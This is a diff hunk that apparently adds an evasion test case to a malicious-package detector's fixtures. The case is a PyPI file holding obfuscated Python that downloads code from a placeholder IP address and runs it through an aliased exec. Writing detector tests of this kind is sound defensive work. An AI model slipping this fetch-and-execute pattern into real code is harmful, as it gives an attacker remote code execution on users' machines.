@@ -56,5 +56,14 @@ In a company's internal package the address may be one of its own machines; addr
         },
       },
     ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "from urllib.request import urlopen as o\ndef go():\n    f = exec\n    f(o('http:' '//203.0.113.5:81/a').read())\n",
+        },
+      },
+    ],
   },
 };
